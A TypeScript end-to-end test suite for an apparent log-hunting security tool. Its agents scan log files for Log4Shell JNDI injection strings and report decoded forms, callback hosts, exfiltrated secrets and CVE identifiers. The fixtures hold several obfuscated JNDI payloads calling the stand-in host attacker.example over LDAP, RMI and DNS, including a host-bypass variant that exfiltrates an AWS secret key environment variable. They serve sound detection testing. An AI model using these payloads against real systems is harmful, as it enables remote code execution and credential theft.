import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { AgentHost } from './support/agent-process';
import { ensureBuilt } from './support/build';
import { ControllerProcess, type DatabaseChoice } from './support/controller-process';
import { createPostgresDatabase, type TestDatabase } from './support/database';
import { eventually } from './support/ports';

// Hunting as an admin does it: the built controller (SQLite and PostgreSQL, Redis for campaigns)
// and two real agent processes hunting real log files (plain, gzip), through the REST API.

jest.setTimeout(240_000);

interface CommandDto {
  id: string;
  kind: string;
  state: string;
  message: string | null;
}
interface HitDto {
  hostId: string;
  commandId: string;
  kind: string;
  confidence: string;
  file: string;
  line: number;
  timestamp: string | null;
  decoded: string;
  trace: string | null;
  target: {
    protocol: string;
    host: string;
    port: number | null;
    path: string;
    callbackHost: string;
    bypass: string | null;
  } | null;
  exfiltrates: Array<{ expression: string; where: string }>;
  cves: string[];
  indicatorType: string | null;
}
interface HuntRunDto {
  commandId: string;
  summary: Record<string, unknown> | null;
  errors: Array<{ path: string; code: string }>;
  hits: number;
  completedAt: string | null;
}
interface Page<T> {
  items: T[];
  total: number;
}

const FINAL = ['succeeded', 'failed', 'expired', 'cancelled'];
const ATTACKER = 'attacker.example';

describe.each(['sqlite', 'postgres'] as const)(
  'hunt on %s: real agents hunting real logs, driven through the REST API',
  (databaseType) => {
    let work: string;
    let database: TestDatabase | undefined;
    let controller: ControllerProcess;
    let alpha: AgentHost;
    let beta: AgentHost;
    let alphaId: string;
    let betaId: string;

    beforeAll(async () => {
      ensureBuilt();
      work = await mkdtemp(path.join(os.tmpdir(), 'e2e-hunt-'));
      let choice: DatabaseChoice = { type: 'sqlite', dir: work };
      if (databaseType === 'postgres') {
        database = await createPostgresDatabase();
        choice = { type: 'postgres', url: database.url };
      }
      controller = await ControllerProcess.start(choice);
      alpha = new AgentHost('hunt-alpha', path.join(work, 'alpha'));
      beta = new AgentHost('hunt-beta', path.join(work, 'beta'));
      alphaId = await alpha.enrollWithNewToken(controller, 'e2e hunt alpha');
      betaId = await beta.enrollWithNewToken(controller, 'e2e hunt beta');
      await mkdir(path.join(alpha.dir, 'logs'), { recursive: true });
      await writeFile(
        path.join(alpha.dir, 'logs/access.log'),
        [
          '10.0.0.1 - - [10/Dec/2021:12:00:00 +0000] "GET / HTTP/1.1" 200 512 "-" "curl/7.68"',
          `10.0.0.9 - - [10/Dec/2021:12:00:05 +0000] "GET /?q=%24%7B%24%7B%3A%3A-j%7Dndi%3Aldap%3A%2F%2F${ATTACKER}%3A1389%2Fa%7D HTTP/1.1" 200 5 "-" "-"`,
        ].join('\n'),
      );
      await writeFile(
        path.join(alpha.dir, 'logs/app.log.1.gz'),
        gzipSync(
          Buffer.from(
            [
              '2021-12-10 12:01:00,000 INFO  c.e.Login - started ${user.home}/logs, JNDI datasource java:comp/env/jdbc/ds',
              `2021-12-10 12:01:02,000 WARN  c.e.Login - user=\${jnd\u0131:ldap://127.0.0.1#${ATTACKER}:1389/\${env:AWS_SECRET_ACCESS_KEY}}`,
            ].join('\n'),
          ),
        ),
      );
      await mkdir(path.join(alpha.dir, 'benign'), { recursive: true });
      await writeFile(
        path.join(alpha.dir, 'benign/app.log'),
        'url=${DB_SCHEME}://${DB_HOST}:${DB_PORT}/${DB_NAME}\nJAVA_OPTS="${JAVA_OPTS} -Dnode.id=${NODE_ID}:${LDAP_PORT}:${APP_DIR}"\n',
      );
      await mkdir(path.join(beta.dir, 'logs'), { recursive: true });
      await writeFile(
        path.join(beta.dir, 'logs/catalina.out'),
        [
          `10-Dec-2021 12:02:00.000 SEVERE [main] ua=\\u0024\\u007bjndi:rmi://${ATTACKER}:1099/x}`,
          `2021-12-10 12:02:01,000 main WARN Error looking up JNDI resource [rmi://${ATTACKER}:1099/x].`,
        ].join('\n'),
      );
      await mkdir(path.join(work, 'shared'), { recursive: true });
      await writeFile(
        path.join(work, 'shared/app.log'),
        '${${lower:j}ndi:dns://campaign.example/q}\n',
      );
      alpha.startDaemon();
      beta.startDaemon();
    });

    afterAll(async () => {
      await alpha?.stop();
      await beta?.stop();
      await controller?.stop();
      await database?.drop();
      if (work) await rm(work, { recursive: true, force: true });
    });

    const api = <T>(method: string, route: string, body?: unknown): Promise<T> =>
      controller.api<T>(method, route, body);
    const ended = (id: string) =>
      eventually(`command ${id} to end`, async () => {
        const command = await api<CommandDto>('GET', `/commands/${id}`);
        return FINAL.includes(command.state) ? command : undefined;
      });
    // Results are ingested after the command succeeded (an upload, then a queue job).
    const hitsOf = (commandId: string, expected: number) =>
      eventually(`${expected} hits of ${commandId}`, async () => {
        const page = await api<Page<HitDto>>(
          'GET',
          `/hunt-hits?commandId=${commandId}&pageSize=100`,
        );
        return page.total >= expected ? page.items : undefined;
      });

    it('a host hunt finds every obfuscated string with its decoded form, callback and exfiltration', async () => {
      const command = await api<CommandDto>('POST', `/hosts/${alphaId}/hunts`, {
        paths: [path.join(alpha.dir, 'logs')],
      });
      expect(command).toMatchObject({ kind: 'hunt', state: 'queued' });
      expect(await ended(command.id)).toMatchObject({ state: 'succeeded' });
      const hits = await hitsOf(command.id, 2);
      const byFile = (name: string) => hits.find((h) => h.file.endsWith(name));
      expect(byFile('access.log')).toMatchObject({
        hostId: alphaId,
        kind: 'jndi',
        confidence: 'high',
        line: 2,
        timestamp: '2021-12-10T12:00:05.000Z',
        decoded: `\${jndi:ldap://${ATTACKER}:1389/a}`,
        target: {
          protocol: 'ldap',
          host: ATTACKER,
          port: 1389,
          path: '/a',
          callbackHost: ATTACKER,
          bypass: null,
        },
      });
      expect(byFile('app.log.1.gz')).toMatchObject({
        kind: 'jndi',
        line: 2,
        decoded: `\${jndi:ldap://127.0.0.1#${ATTACKER}:1389/\${env:AWS_SECRET_ACCESS_KEY}}`,
        target: { callbackHost: ATTACKER, bypass: 'hash-host', port: 1389 },
        exfiltrates: [
          expect.objectContaining({ expression: '${env:AWS_SECRET_ACCESS_KEY}', where: 'path' }),
        ],
        cves: ['CVE-2021-44228', 'CVE-2021-45046'],
      });
      expect(hits).toHaveLength(2);
      const perHost = await api<Page<HitDto>>('GET', `/hosts/${alphaId}/hunt-hits?kind=jndi`);
      expect(perHost.total).toBe(2);
    });

    it('the host is flagged compromise-suspected, and its timeline says why', async () => {
      const { host } = await api<{ host: { flagged: boolean; flagReason: string } }>(
        'GET',
        `/hosts/${alphaId}`,
      );
      expect(host.flagged).toBe(true);
      expect(host.flagReason).toMatch(
        /^compromise-suspected: 2 hunt hit\(s\), calling back to attacker\.example/,
      );
      const audit = await api<Page<{ action: string; details: Record<string, unknown> }>>(
        'GET',
        `/audit?hostId=${alphaId}&action=host.compromise_suspected`,
      );
      expect(audit.items).toEqual([
        expect.objectContaining({
          details: expect.objectContaining({ callbackHosts: [ATTACKER], hits: 2 }),
        }),
      ]);
    });

    it('benign look-alikes: the hunt completes with no hit, its run says what it read', async () => {
      const command = await api<CommandDto>('POST', `/hosts/${alphaId}/hunts`, {
        paths: [path.join(alpha.dir, 'benign'), path.join(alpha.dir, 'missing.log')],
      });
      expect(await ended(command.id)).toMatchObject({ state: 'succeeded' });
      const run = await eventually(`the run of ${command.id} to complete`, async () => {
        const runs = await api<Page<HuntRunDto>>('GET', `/hosts/${alphaId}/hunt-runs`);
        return runs.items.find((r) => r.commandId === command.id && r.completedAt !== null);
      });
      expect(run).toMatchObject({
        hits: 0,
        summary: expect.objectContaining({ files: 1, lines: 2, hits: 0, errors: 1 }),
      });
      expect(run.errors).toEqual([
        expect.objectContaining({ code: 'not-found', path: path.join(alpha.dir, 'missing.log') }),
      ]);
      expect((await api<Page<HitDto>>('GET', `/hunt-hits?commandId=${command.id}`)).total).toBe(0);
    });

    it('fleet-wide: hits filtered by callback host, and grouped by callback host across hosts', async () => {
      const command = await api<CommandDto>('POST', `/hosts/${betaId}/hunts`, {
        paths: [path.join(beta.dir, 'logs')],
      });
      expect(await ended(command.id)).toMatchObject({ state: 'succeeded' });
      const betaHits = await hitsOf(command.id, 2);
      expect(betaHits.map((h) => [h.kind, h.trace, h.line, h.target?.protocol]).sort()).toEqual([
        ['jndi', null, 1, 'rmi'],
        ['trace', 'jndi-lookup-error', 2, 'rmi'],
      ]);
      const attacker = await api<Page<HitDto>>(
        'GET',
        `/hunt-hits?callbackHost=${ATTACKER.toUpperCase()}&pageSize=50`,
      );
      expect(new Set(attacker.items.map((h) => h.hostId))).toEqual(new Set([alphaId, betaId]));
      expect(attacker.total).toBe(4);
      const groups = await api<
        Page<{ callbackHost: string; hosts: number; hits: number; protocols: string[] }>
      >('GET', '/hunt-hits/callback-hosts');
      expect(groups.items[0]).toMatchObject({
        callbackHost: ATTACKER,
        hosts: 2,
        hits: 4,
        protocols: ['ldap', 'rmi'],
      });
      expect((await api<Page<HitDto>>('GET', `/hunt-hits?kind=trace&hostId=${betaId}`)).total).toBe(
        1,
      );
    });

    it('a hunt campaign runs on every selected host', async () => {
      const campaign = await api<{ id: string }>('POST', '/campaigns', {
        kind: 'hunt',
        params: { paths: [path.join(work, 'shared')] },
        selector: { hostIds: [alphaId, betaId] },
      });
      expect(campaign.id).toBeDefined();
      const group = await eventually(
        'the campaign hunt hits of both hosts',
        async () => {
          const groups = await api<Page<{ callbackHost: string; hosts: number }>>(
            'GET',
            '/hunt-hits/callback-hosts',
          );
          return groups.items.find((g) => g.callbackHost === 'campaign.example' && g.hosts === 2);
        },
        120_000,
        500,
      );
      expect(group).toMatchObject({ hosts: 2 });
    });

    it('configuration changed after the date is listed with the host hits, at low confidence', async () => {
      const conf = path.join(beta.dir, 'conf');
      await mkdir(conf, { recursive: true });
      await writeFile(path.join(conf, 'log4j2.xml'), '<Configuration/>');
      const command = await api<CommandDto>('POST', `/hosts/${betaId}/hunts`, {
        paths: [path.join(beta.dir, 'logs')],
        configDirs: [conf],
        changedSince: '2021-12-01T00:00:00Z',
      });
      expect(await ended(command.id)).toMatchObject({ state: 'succeeded' });
      const hits = await hitsOf(command.id, 3);
      expect(hits.filter((h) => h.kind === 'changed-file')).toEqual([
        expect.objectContaining({
          file: path.join(conf, 'log4j2.xml'),
          confidence: 'low',
          line: 0,
        }),
      ]);
    });

    it('bad hunt parameters are a 400 naming them', async () => {
      await expect(
        api('POST', `/hosts/${alphaId}/hunts`, { paths: ['relative/logs'] }),
      ).rejects.toThrow(/HTTP 400.*absolute/);
      await expect(
        api('POST', `/hosts/${alphaId}/hunts`, { indicatorHashes: ['xyz'] }),
      ).rejects.toThrow(/HTTP 400.*indicatorHashes/);
      await expect(
        api('POST', `/hosts/${alphaId}/hunts`, { paths: ['/' + '\u00e9'.repeat(2100)] }),
      ).rejects.toThrow(/HTTP 400.*bytes/);
    });
  },
);
